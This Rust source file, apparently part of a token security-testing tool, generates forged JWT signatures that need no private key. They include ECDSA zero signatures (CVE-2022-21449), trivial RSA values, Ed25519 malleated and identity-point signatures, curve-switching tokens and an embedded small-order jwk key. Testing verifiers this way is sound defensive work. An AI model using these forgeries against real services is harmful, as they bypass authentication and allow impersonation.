//! Signatures made without any private key: values that satisfy a verifier which does not check their range.

use serde_json::json;

use crate::base64url::encode_base64url;
use crate::elliptic_curve::Curve;
use crate::key_material::{KeyMaterial, encode_der_integers};
use crate::public_key::PublicKey;
use crate::token::{ForgedToken, Token, without_member};

/// The order of Ed25519's base point (RFC 8032, section 5.1), little-endian.
const ED25519_ORDER: [u8; 32] = [
    0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde, 0x14, 0, 0, 0,
    0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10,
];

/// The neutral element of Ed25519, encoded as a point. As a public key, any message has the signature that consists of it
/// and of zero.
const ED25519_IDENTITY: [u8; 32] =
    [1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];

pub(crate) fn forge_tokens(good: &Token, issuer: Option<&PublicKey>) -> Vec<ForgedToken> {
    let material = issuer.map(|issuer| &issuer.material);
    let mut forged = match material {
        Some(KeyMaterial::Rsa { modulus, .. }) => rsa_signatures(good, modulus),
        Some(KeyMaterial::EllipticCurve { curve, .. }) => ecdsa_signatures(good, *curve),
        Some(KeyMaterial::Ed25519 { .. }) => ed25519_signatures(good),
        None => Vec::new(),
    };
    forged.extend(zeros_of_other_curves(good, material));
    forged.push(small_order_key(good));
    forged
}

/// CVE-2022-21449.
fn ecdsa_signatures(good: &Token, curve: Curve) -> Vec<ForgedToken> {
    let (r, s) = good.signature.split_at(good.signature.len() / 2);
    let zero = vec![0; curve.coordinate_bytes()];
    let mut one = zero.clone();
    if let Some(last) = one.last_mut() {
        *last = 1;
    }
    let order = curve.order();
    let twice = |half: &[u8]| good.with_signature([half, half].concat());
    vec![
        ForgedToken::new("ECDSA signature of zeros", twice(&zero)),
        ForgedToken::new("ECDSA signature of the curve's order", twice(&order)),
        ForgedToken::new("ECDSA signature of ones", twice(&one)),
        ForgedToken::new(
            "ECDSA signature of zeros in DER",
            good.with_signature(encode_der_integers(&[0], &[0])),
        ),
        ForgedToken::new("ECDSA signature in DER", good.with_signature(encode_der_integers(r, s))),
        ForgedToken::new("ECDSA signature, halves swapped", good.with_signature([s, r].concat())),
    ]
}

/// The same for the curves that the issuer's key does not have. They find a verifier that takes the curve from the token,
/// with every kind of key.
fn zeros_of_other_curves(good: &Token, own: Option<&KeyMaterial>) -> impl Iterator<Item = ForgedToken> {
    let own = match own {
        Some(KeyMaterial::EllipticCurve { curve, .. }) => Some(*curve),
        _ => None,
    };
    Curve::ALL.into_iter().filter(move |curve| Some(*curve) != own).map(|curve| {
        let alg = curve.algorithm();
        let header = good.header_with("alg", alg.name());
        let token = good.with_header_and_signature(&header, vec![0; 2 * curve.coordinate_bytes()]);
        ForgedToken::new(format!("algorithm {alg}, signature of zeros"), token)
    })
}

fn rsa_signatures(good: &Token, modulus: &[u8]) -> Vec<ForgedToken> {
    let mut one = vec![0; modulus.len()];
    if let Some(last) = one.last_mut() {
        *last = 1;
    }
    vec![
        ForgedToken::new("RSA signature of zeros", good.with_signature(vec![0; modulus.len()])),
        ForgedToken::new("RSA signature of one", good.with_signature(one)),
        ForgedToken::new("RSA signature of the modulus", good.with_signature(modulus)),
        ForgedToken::new("RSA signature of a single zero", good.with_signature([0])),
    ]
}

/// A signature is a point R and a number S below the order (RFC 8032, section 5.1.7).
fn ed25519_signatures(good: &Token) -> Vec<ForgedToken> {
    let with = |r: &[u8], s: &[u8]| good.with_signature([r, s].concat());
    let (r, s) = good.signature.split_at(good.signature.len() / 2);
    vec![
        ForgedToken::new("Ed25519 signature of zeros", with(&[0; 32], &[0; 32])),
        ForgedToken::new("Ed25519 signature of the identity and zero", with(&ED25519_IDENTITY, &[0; 32])),
        ForgedToken::new(
            "Ed25519 signature of the identity and the order",
            with(&ED25519_IDENTITY, &ED25519_ORDER),
        ),
        ForgedToken::new("Ed25519 signature, S increased by the order", with(r, &add_ed25519_order(s))),
        ForgedToken::new("Ed25519 signature, halves swapped", with(s, r)),
    ]
}

/// Adds little-endian numbers. S and the order have 253 bits, so that their sum is not longer.
fn add_ed25519_order(s: &[u8]) -> Vec<u8> {
    let mut carry = 0;
    let add = |(digit, order): (&u8, u8)| {
        let sum = u16::from(*digit) + u16::from(order) + carry;
        carry = sum >> 8;
        sum as u8
    };
    s.iter().zip(ED25519_ORDER).map(add).collect()
}

/// Returns a token with a key in its header under which every message has the same signature.
fn small_order_key(good: &Token) -> ForgedToken {
    let jwk = json!({"kty": "OKP", "crv": "Ed25519", "x": encode_base64url(ED25519_IDENTITY)});
    let mut header = without_member(good.header_with("alg", "EdDSA"), "kid");
    header["jwk"] = jwk;
    let signature = [ED25519_IDENTITY, [0; 32]].concat();
    ForgedToken::new(
        "an Ed25519 key of small order in jwk",
        good.with_header_and_signature(&header, signature),
    )
}
